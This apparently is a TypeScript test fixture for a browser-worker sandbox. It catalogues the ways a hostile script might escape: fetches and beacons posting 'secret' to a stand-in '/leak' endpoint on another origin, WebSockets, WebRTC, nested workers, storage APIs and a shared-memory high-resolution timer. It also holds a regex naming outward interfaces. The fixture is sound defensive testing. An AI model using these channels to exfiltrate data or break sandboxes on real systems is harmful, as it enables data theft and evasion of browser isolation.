/**
 * What a hostile script tries in a worker to reach the network, storage, another thread or a finer clock. No imports: the test
 * serves this text, behind that of `lockdown.ts`, as one script.
 */

/** Where an escape could arrive; the test counts whatever does. */
export interface Targets {
  /** The page's own origin. */
  own: string;
  /** Another origin, which allows everything to everybody. */
  other: string;
  /** The other origin's port, where packets of QUIC and STUN would arrive. */
  port: number;
}
type Attempt = (to: Targets) => unknown;

/** `won` or the attempt is lost; a bound for those that would never say. */
function outcome(target: EventTarget, won: string, lost: readonly string[] = ['error']): Promise<string> {
  return new Promise((resolve, reject) => {
    target.addEventListener(won, () => resolve(won), { once: true });
    for (const name of lost) target.addEventListener(name, () => reject(new Error(name)), { once: true });
    setTimeout(() => reject(new Error('nothing happened')), 2_000);
  });
}
/** Storage that answers by request objects. */
const settled = (request: IDBRequest): Promise<string> => outcome(request, 'success', ['error', 'blocked']);
const blobUrl = (text: string): string => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const nested = (address: string): Promise<string> => outcome(new Worker(address, { type: 'module' }), 'message');
const imported = (address: string): Promise<unknown> => import(address);
const scope = globalThis as unknown as Record<string, (...args: unknown[]) => unknown>;
const workerNavigator = () => navigator as Navigator & Record<string, { register(address: string): Promise<unknown> }>;

/** Those that a content policy shuts off. */
export const network: Record<string, Attempt> = {
  'fetch of the own origin': ({ own }) => fetch(`${own}/leak?fetch`),
  'fetch of another origin': ({ other }) => fetch(`${other}/leak?fetch`),
  'fetch without CORS': ({ other }) =>
    fetch(`${other}/leak?fetch`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch that outlives the worker': ({ own }) => fetch(`${own}/leak?keepalive`, { keepalive: true }),
  'fetch of a data address': () => fetch('data:,secret'),
  'fetch of a blob': () => fetch(blobUrl('secret')),
  XMLHttpRequest: ({ own }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${own}/leak?xhr`);
    request.send();
    return outcome(request, 'load');
  },
  'synchronous XMLHttpRequest': ({ own }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${own}/leak?sync`, false);
    request.send();
  },
  'WebSocket to the own origin': ({ own }) =>
    outcome(new WebSocket(own.replace('http', 'ws')), 'open', ['error', 'close']),
  'WebSocket to another origin': ({ other }) =>
    outcome(new WebSocket(other.replace('http', 'ws')), 'open', ['error', 'close']),
  WebSocketStream: ({ other }) =>
    Reflect.construct<[string], { opened: unknown }>(scope['WebSocketStream'] as never, [other.replace('http', 'ws')])
      .opened,
  EventSource: ({ other }) => outcome(new EventSource(`${other}/events`), 'open'),
  WebTransport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/`).ready,
  WebRTC: async ({ port }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription();
  },
  importScripts: ({ own }) => scope['importScripts']?.(`${own}/leak.js?importScripts`) ?? absent('importScripts'),
  'import from the own origin': ({ own }) => imported(`${own}/leak.js?secret`),
  'import from another origin': ({ other }) => imported(`${other}/leak.js?secret`),
  'import of a data address': () => imported('data:text/javascript,export default 1'),
  'import of a blob': () => imported(blobUrl('export default 1')),
  'nested worker': ({ own }) => nested(`${own}/leak.js?worker`),
  'nested worker of a blob': () => nested(blobUrl('postMessage(1)')),
  'nested worker of a data address': () => nested('data:text/javascript,postMessage(1)'),
  SharedWorker: ({ own }) => outcome(new SharedWorker(`${own}/leak.js?shared`).port, 'message'),
  'service worker': ({ own }) =>
    workerNavigator()['serviceWorker']?.register(`${own}/leak.js`) ?? absent('serviceWorker'),
  beacon: ({ other }) => navigator.sendBeacon(`${other}/leak?beacon`, 'secret') || absent('a beacon'),
  'font from another origin': ({ other }) => new FontFace('leak', `url(${other}/leak.woff2)`).load(),
  'streamed WebAssembly': ({ own }) => WebAssembly.compileStreaming(fetch(`${own}/leak.wasm`)),
  'cached address': async ({ other }) => (await caches.open('leak')).add(`${other}/leak?cache`),
  /* oxlint-disable no-eval, no-new-func, typescript/no-implied-eval -- they are to be refused */
  eval: () => globalThis.eval('1 + 1') as unknown,
  'new Function': () => new Function('return 1')() as unknown,
  /* oxlint-enable no-eval, no-new-func, typescript/no-implied-eval */
};

/** Those that no content policy covers: the lockdown alone shuts them off. */
export const storage: Record<string, Attempt> = {
  IndexedDB: () => settled(indexedDB.open('leak')),
  'Cache API': async () => (await caches.open('leak')).put('/leak', new Response('secret')),
  'private file system': async () => (await navigator.storage.getDirectory()).getFileHandle('leak', { create: true }),
  'storage estimate': () => navigator.storage.estimate(),
  BroadcastChannel: () => new BroadcastChannel('leak').postMessage('secret'),
  'Web Locks': () => navigator.locks.request('leak', () => 'held'),
  permissions: () => navigator.permissions.query({ name: 'notifications' }),
};

/** Neither exists in a worker of a page that is not isolated; browsers may change that. */
export const others: Record<string, Attempt> = {
  SharedArrayBuffer: () => new SharedArrayBuffer(8),
  localStorage: () => localStorage.setItem('leak', 'secret'),
  cookies: () =>
    (scope['cookieStore'] as unknown as { set(name: string, value: string): unknown }).set('leak', 'secret'),
  // A second thread that counts in shared memory would be a clock of nanoseconds.
  'counter in shared memory': async () => {
    const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
    const counter = new Worker(
      blobUrl('onmessage = ({ data }) => { postMessage(1); for (;;) Atomics.add(new Int32Array(data), 0, 1) }'),
    );
    counter.postMessage(buffer);
    await outcome(counter, 'message');
  },
  'a clock finer than a browser gives': () => {
    let finest = 1;
    for (let i = 0, last = performance.now(); i < 1e6; i++) {
      const now = performance.now();
      if (now > last) finest = Math.min(finest, now - last);
      last = now;
    }
    if (finest > 0.09) throw new Error(`${finest} ms`);
  },
};

function absent(what: string): never {
  throw new Error(`${what} is not there`);
}

/**
 * Names of interfaces that lead out, found on anything that can be reached from the global scope by properties.
 * @public called inside the worker
 */
export function reachable(): string[] {
  const outward =
    /^(fetch|XMLHttpRequest|WebSocket\w*|EventSource|WebTransport\w*|RTC\w+|IDB\w+|Cache|CacheStorage|Storage\w*|FileSystem\w*|BroadcastChannel|LockManager|Worker|SharedWorker|ServiceWorker\w*|importScripts|Request|FontFace\w*|Permissions|Notification|PressureObserver|createObjectURL|eval|open|sendBeacon)$/;
  const found = new Set<string>();
  const seen = new Set<unknown>();
  const line: unknown[] = [globalThis];
  for (let at = line.pop(); at !== undefined; at = line.pop()) {
    for (const key of Reflect.ownKeys(at as object)) {
      const property = Reflect.getOwnPropertyDescriptor(at as object, key);
      if (typeof key === 'string' && outward.test(key)) found.add(key);
      let value: unknown = property?.value;
      try {
        value = Reflect.get(at as object, key, at);
      } catch {
        // A getter for another object.
      }
      for (const next of [value, property?.get, property?.set]) visit(next);
    }
    visit(Object.getPrototypeOf(at));
  }
  return [...found];

  function visit(next: unknown): void {
    if ((typeof next !== 'object' && typeof next !== 'function') || next === null || seen.has(next)) return;
    seen.add(next);
    const name: unknown =
      typeof next === 'function' ? Reflect.getOwnPropertyDescriptor(next, 'name')?.value : undefined;
    if (typeof name === 'string' && outward.test(name)) found.add(name);
    line.push(next);
  }
}

/**
 * Tries all, one after the other.
 * @public called inside the worker
 * @returns for each what refused it, or undefined where it succeeded.
 */
export async function tryAll(to: Targets): Promise<Record<string, string | undefined>> {
  const refused: Record<string, string | undefined> = {};
  for (const [name, attempt] of Object.entries({ ...network, ...storage, ...others })) {
    try {
      await attempt(to);
      refused[name] = undefined;
    } catch (error) {
      refused[name] = String(error);
    }
  }
  return refused;
}
